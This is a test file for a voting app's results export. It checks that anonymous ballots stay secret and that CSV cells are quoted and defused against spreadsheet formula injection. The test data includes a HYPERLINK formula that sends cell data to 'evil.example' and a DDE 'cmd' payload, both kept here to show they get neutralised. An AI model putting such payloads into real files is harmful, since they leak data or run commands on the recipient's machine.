import { describe, expect, it } from 'vitest';
import { BALLOT_CHOICES } from '../index.js';
import { resultsCsv, resultsExport } from '../server.js';
import { formulaCells, readAsSpreadsheet } from '../testing/spreadsheet.js';
import { chair, created, deputy, head, must, openMeeting, tally, withPoll } from '../testing/votes-world.js';

describe('the results export', () => {
  it('lists who voted in an anonymous poll but never their choices; roll-call polls list choices', () => {
    const { world: start, pollId } = withPoll({ secrecy: 'anonymous' });
    let world = start;
    world = must(world, { type: 'poll.vote', pollId, choice: 'object' }, head('uz'), { now: 2000 });
    world = must(world, { type: 'voter.designate', seat: 'deputy' }, head('kz'));
    world = must(world, { type: 'poll.vote', pollId, choice: 'abstain' }, deputy('kz'), { now: 2001 });
    const open = resultsExport(world, 2500, (invite) => (invite.endsWith('-deputy') ? 'deputy' : 'head'));
    expect(open.polls[0]).toMatchObject({
      status: 'open',
      result: null,
      ballots: null,
      voters: [
        { delegationId: 'uz', at: 2000, castBy: 'head' },
        { delegationId: 'kz', at: 2001, castBy: 'deputy' },
      ],
    });
    for (const choice of BALLOT_CHOICES) {
      expect(JSON.stringify(open)).not.toContain(choice);
      // The header names the total columns; no data row may carry a choice.
      expect(resultsCsv(open).split('\r\n').slice(1).join('\n')).not.toContain(choice);
    }
    world = must(world, { type: 'poll.close', pollId }, chair, { now: 3000 });
    const { world: w2, id: rollCall } = created(world, {
      type: 'poll.open',
      proposalId: 'uz-lab-proposal',
      method: 'vote',
      secrecy: 'roll_call',
      quorum: 0,
    });
    const w3 = must(w2, { type: 'poll.vote', pollId: rollCall, choice: 'support' }, head('az'), { now: 4000 });
    const report = resultsExport(w3, 5000);
    const anonymous = report.polls[0];
    expect(anonymous?.result?.tally).toEqual(tally(0, 1, 1));
    expect(anonymous?.ballots).toBeNull();
    expect(report.polls[1]?.ballots).toEqual([
      { delegationId: 'az', delegation: { en: 'az', ru: 'az' }, choice: 'support', at: 4000, castBy: null },
    ]);
    const csv = resultsCsv(report).split('\r\n');
    expect(csv[0]).toMatch(/^record,poll_id,/);
    expect(csv.filter((l) => l.startsWith('voter,'))).toHaveLength(2);
    expect(csv.filter((l) => l.startsWith('ballot,'))).toEqual([
      expect.stringContaining(',support,1970-01-01T00:00:04.000Z,'),
    ]);
    expect(csv.find((l) => l.startsWith('poll,'))).toContain(',closed,');
  });

  it('quotes CSV cells and defuses spreadsheet formulas in people-written text', () => {
    const w = openMeeting();
    const { world } = created(w, {
      type: 'decision.record',
      agendaItemId: 'aob',
      text: { en: '=HYPERLINK("x"), "quoted"', ru: 'Строка\nвторая' },
      outcome: 'noted',
    });
    const line = resultsCsv(resultsExport(world, 0));
    expect(line).toContain(`"'=HYPERLINK(""x""), ""quoted"""`);
    expect(line).toContain('"Строка\nвторая"');
  });

  it('opened with `,` or with `;` (Excel in Russian or French) or tab, no cell of the CSV is a formula, and every text reads back', () => {
    // [as written by people, as a spreadsheet shows it]: a formula start (= + - @, a tab) at the
    // start of a text, or after a `;`, a tab or a line break inside it, gets an apostrophe.
    const texts: Array<[string, string]> = [
      ['Noted;=1+1;…', "Noted;'=1+1;…"],
      ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'],
      ["Agreed;-2+3+cmd|' /C calc'!A0", "Agreed;'-2+3+cmd|' /C calc'!A0"],
      ['Agreed; @SUM(1)\tsee\t+1', "Agreed; '@SUM(1)\tsee\t'+1"],
      ['The meeting:\n- noted the report\r\n=agreed', "The meeting:\n'- noted the report\r\n'=agreed"],
      ['Agreed;"=1+1"', 'Agreed;"\'=1+1"'],
      ['Agreed, +7 (495) 449-77-77; a, b, "c"', 'Agreed, +7 (495) 449-77-77; a, b, "c"'],
    ];
    let world = openMeeting();
    for (const [text] of texts)
      world = created(world, {
        type: 'decision.record',
        agendaItemId: 'aob',
        text: { en: text, ru: `${text} (рус.)` },
        outcome: 'noted',
      }).world;
    const csv = resultsCsv(resultsExport(world, 0));

    expect(formulaCells(csv)).toEqual([]);
    const [header, ...rows] = readAsSpreadsheet(csv, ',');
    const en = header?.indexOf('text_en') ?? -1;
    const ru = header?.indexOf('text_ru') ?? -1;
    expect(rows.every((r) => r.length === header?.length)).toBe(true);
    expect(rows.map((r) => r[en])).toEqual(texts.map(([, shown]) => shown));
    expect(rows.map((r) => r[ru])).toEqual(texts.map(([, shown]) => `${shown} (рус.)`));
  });
});
